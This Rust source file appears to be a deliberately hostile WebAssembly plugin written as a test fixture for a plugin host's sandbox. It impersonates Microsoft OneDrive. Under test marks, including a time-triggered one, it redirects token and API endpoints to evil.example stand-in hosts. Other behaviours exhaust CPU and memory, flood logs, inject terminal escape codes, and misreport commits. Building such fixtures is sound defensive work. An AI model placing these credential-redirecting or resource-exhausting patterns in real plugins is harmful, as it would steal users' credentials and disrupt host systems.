//! A plugin that means harm: it fits the contract, and then does what plugins may not do.
//!
//! Which of it, the host says by the first of the file types in the policy that it hands over; what becomes of it, the
//! plugin says in the text of an error. What happens before there is a policy is chosen by a mark in the component's
//! bytes, which a test overwrites.
#![cfg(target_family = "wasm")]

mod bytes;
mod greed;
mod lies;
mod net;
mod runs;

/// The contract, as generated from `wit/`.
mod bindings {
    wit_bindgen::generate!({ path: "../../wit", world: "content-source", generate_all });
    export!(Hostile with_types_in self);
    use super::Hostile;
}

use bindings::{
    clientpoint::content_source::{
        connection,
        types::{Actor, ItemRef, Policy, Role, Subfolders},
    },
    exports::clientpoint::content_source::{
        association::{self, Guest as Association},
        content_import::{Drive, DrivePage, EntryPage, Error, Guest as ContentImport, ItemOutcome, Resolved},
        examination::{Finding, Guest as Examination, Standing, Subject},
        source::{
            Account, AuthorizationPlan, Claim, Credentials, Description, Egress, Field, FieldKind, FieldTraits,
            Guest as Source, Labels, Mode, ModeForm, Refusal, Setting, SettingsError, SignInError, SignInProblem,
        },
        sync::{Guest as Sync, Options, PlanPage, Report},
    },
};
use wasip3::clocks::{monotonic_clock, system_clock};
use wit_bindgen::StreamReader;

/// In the units of `system-clock`.
const DAY: i64 = 24 * 60 * 60;

/// UTC, on any day.
const SIX_O_CLOCK: i64 = 6 * 60 * 60;

/// In those of `monotonic-clock`.
const SECOND: u64 = 1_000_000_000;

/// What the component exports hang on to.
struct Hostile;

/// What happens before there is a policy.
#[used]
static MARK: [u8; 32] = *b"hostile-mark:behaves............";

fn marked(word: &str) -> bool {
    // Read as what it may have become, not as what it was when this was compiled.
    let mark = std::hint::black_box(&MARK);
    let mark: Vec<u8> = (0..mark.len())
        .map(|at| unsafe { std::ptr::read_volatile(&mark[at]) })
        .collect();
    mark.get("hostile-mark:".len()..)
        .is_some_and(|rest| rest.starts_with(word.as_bytes()))
}

/// Runs while the component is made an instance.
#[unsafe(no_mangle)]
extern "C" fn _initialize() {
    if marked("starts-forever") {
        greed::spin();
    }
}

/// What to do, as the host's policy says.
fn behaviour() -> String {
    let types = connection::current().policy.file_types;
    types.into_iter().next().unwrap_or_default()
}

/// What became of it, for the test to read.
fn said(what: impl Into<String>) -> Error {
    Error::Other(what.into())
}

impl ContentImport for Hostile {
    async fn drives(_actor: Actor, _next: Option<String>) -> Result<DrivePage, Error> {
        match behaviour().as_str() {
            "giant-notes" => Ok(greed::giant_notes()),
            "endless-drives" => Ok(greed::another_drive_page()),
            other => Err(said(format!("drives: no such behaviour: {other}"))),
        }
    }

    async fn resolve_drive(_actor: Actor, _url: String) -> Result<Drive, Error> {
        Err(Error::NotFound)
    }

    async fn resolve_items(_actor: Actor, texts: Vec<String>) -> Result<Vec<Resolved>, Error> {
        lies::resolved(&behaviour(), &texts)
    }

    async fn browse(_actor: Actor, folder: Option<String>, _next: Option<String>) -> Result<EntryPage, Error> {
        let argument = folder.unwrap_or_default();
        Err(said(match behaviour().as_str() {
            "calls" => net::get(&argument).await,
            "follows" => net::follow(&argument).await,
            "posts" => net::post(&argument).await,
            "sets-headers" => net::forbidden_headers().await,
            "sends-trailers" => net::send_trailers(&argument).await,
            "endless-body" => net::endless_body(&argument).await,
            "thousand-requests" => net::thousand(&argument).await,
            "loops" => greed::spin(),
            "recurses" => greed::recurse(0).to_string(),
            "allocates" => greed::allocate(),
            "traps" => std::process::abort(),
            "waits-forever" => greed::wait().await,
            "many-waits" => greed::many_waits().await,
            "many-streams" => greed::many_streams(),
            "floods-log" => greed::flood_log(),
            "floods-progress" => greed::flood_progress(),
            "fills-state" => greed::fill_state().await,
            "asks-state-at-once" => greed::ask_state_at_once().await,
            "looks-files-up" => lies::look_up().await,
            "poisons-state" => {
                let drive = connection::current().drive.unwrap_or_default();
                greed::poison_state(&drive, &argument).await
            }
            "giant-questions" => greed::giant_questions().await,
            "giant-entries" => return Ok(greed::giant_entries()),
            "endless-pages" => return Ok(greed::another_page()),
            "drafts-while-browsing" => bytes::create_one().await,
            "reaches-managed-files" => runs::outside_of_a_run().await,
            other => format!("browse: no such behaviour: {other}"),
        }))
    }

    async fn import_files(_actor: Actor, items: Vec<ItemRef>) -> Result<Vec<ItemOutcome>, Error> {
        match behaviour().as_str() {
            "leaks-drafts" => Err(said(bytes::leak_drafts().await)),
            "gives-up-writing" => Err(said(bytes::give_up_writing().await)),
            "writes-and-traps" => bytes::write_and_trap().await,
            "writes-and-hangs" => bytes::write_and_hang().await,
            "writes-too-much" => Err(said(bytes::write_too_much().await)),
            "commits-twice" => Err(said(bytes::commit_twice(&items[0]).await)),
            "commits-unasked" => Err(said(bytes::commit_unasked(&items[0]).await)),
            "commits-other-size" => Err(said(bytes::commit_other_size(&items[0]).await)),
            "commits-long-words" => Err(said(bytes::commit_long_words(&items[0]).await)),
            "commits-nul" => Err(said(bytes::commit_nul(&items[0]).await)),
            "commits-and-denies" => Ok(lies::commit_and_deny(&items).await),
            "commits-and-traps" => lies::commit_and_trap(&items).await,
            lie => lies::outcomes(lie, &items).ok_or_else(|| said(format!("import: no such behaviour: {lie}"))),
        }
    }
}

impl Association for Hostile {
    async fn preview(_actor: Actor, _sheet: StreamReader<u8>) -> Result<association::Report, association::Error> {
        Err(association::Error::Call(said(match behaviour().as_str() {
            "looks-files-up" => lies::look_up().await,
            _ => lies::bind().await,
        })))
    }

    async fn apply(_actor: Actor, _sheet: StreamReader<u8>) -> Result<association::Report, association::Error> {
        lies::association(&behaviour()).await
    }

    async fn read(
        _actor: Actor,
        _sheet: StreamReader<u8>,
    ) -> Result<StreamReader<association::Line>, association::Error> {
        Err(association::Error::Call(said("there are no lines")))
    }
}

impl Sync for Hostile {
    async fn step(cursor: Option<String>, _options: Options) -> Result<Report, Error> {
        runs::step(&behaviour(), cursor).await
    }

    async fn plan(_cursor: String, _next: Option<String>) -> Result<PlanPage, Error> {
        runs::plan(&behaviour()).await
    }
}

/// It tries to change what it was only to look at, and floods who wants to know.
impl Examination for Hostile {
    async fn examine(_actor: Actor, _settings: Vec<Setting>, _granted: Option<String>) -> Result<Vec<Finding>, Error> {
        let tried = [
            bytes::create_one().await,
            greed::fill_state().await,
            runs::outside_of_a_run().await,
        ];
        let finding = Finding {
            subject: Subject::File,
            standing: Standing::Well,
            message: format!("{}\u{1b}[2J\n{}", tried.join("; "), "x".repeat(1 << 20)),
            remedy: None,
        };
        Ok(vec![finding; 40])
    }
}

impl Source for Hostile {
    fn describe() -> Description {
        if marked("describes-forever") {
            greed::spin();
        }
        let field = |key: &str, kind| Field {
            key: key.into(),
            label: key.into(),
            help: String::new(),
            kind,
            default: (key == "cloud").then(|| "global".into()),
            traits: match key {
                "tenant" | "cloud" => FieldTraits::ACCOUNT,
                _ => FieldTraits::empty(),
            },
        };
        Description {
            id: "onedrive".into(),
            title: "Microsoft OneDrive".into(),
            labels: Labels {
                name: "OneDrive".into(),
                add: "Add".into(),
                associate: "Associate".into(),
                path_column: "Path".into(),
                path_help: Vec::new(),
                path_example: String::new(),
                withdrawal: String::new(),
            },
            version: "6.6.6".into(),
            required_role: Role::Member,
            default_policy: Policy {
                max_file_bytes: if marked("boundless") { u64::MAX } else { 1 << 20 },
                max_files_per_import: u32::MAX,
                file_types: Vec::new(),
                subfolders: Subfolders::Browse,
                max_sheet_bytes: u64::MAX,
                max_sheet_rows: u32::MAX,
            },
            modes: vec![ModeForm {
                mode: Mode::Organization,
                label: "Organization".into(),
                help: String::new(),
                fields: vec![
                    field("tenant", FieldKind::Text),
                    field("client-id", FieldKind::Text),
                    field("client-secret", FieldKind::Secret),
                    field("cloud", FieldKind::Text),
                ],
                credentials: Credentials::One,
            }],
            schedules: Vec::new(),
        }
    }

    fn authorization(_mode: Mode, settings: Vec<Setting>) -> Result<AuthorizationPlan, SettingsError> {
        let value = |key: &str| {
            let found = settings.iter().find(|setting| setting.key == key);
            found.map(|setting| setting.value.clone()).unwrap_or_default()
        };
        let moved = marked("moves-endpoints")
            || (marked("moves-at-six") && SIX_O_CLOCK <= system_clock::now().seconds.rem_euclid(DAY))
            || (marked("alternates") && monotonic_clock::now() / SECOND % 2 == 1);
        let (login, api) = if moved {
            ("https://login.evil.example", "https://api.evil.example")
        } else {
            ("https://login.microsoftonline.com", "https://graph.microsoft.com")
        };
        Ok(AuthorizationPlan {
            token_url: format!("{login}/{}/oauth2/v2.0/token", value("tenant")),
            // With it, a test sees which of two answers was used.
            client_id: if moved { "stolen".into() } else { value("client-id") },
            scopes: vec!["https://graph.microsoft.com/.default".into()],
            egress: Egress {
                api_origin: api.into(),
                post_paths: vec!["/v1.0/$batch".into()],
                redirects: true,
            },
            sign_in: None,
        })
    }

    async fn verify(_settings: Vec<Setting>, _claims: Vec<Claim>) -> Result<Account, SignInError> {
        Ok(Account {
            id: "hostile".into(),
            name: "Hostile".into(),
            drive: None,
        })
    }

    fn approval_url(_settings: Vec<Setting>) -> Option<String> {
        Some("https://evil.example/approve".into())
    }

    fn explain(_mode: Mode, _settings: Vec<Setting>, _refusal: Refusal) -> SignInError {
        SignInError {
            problem: SignInProblem::Other,
            key: None,
            message: "the sign-in was refused".into(),
        }
    }
}
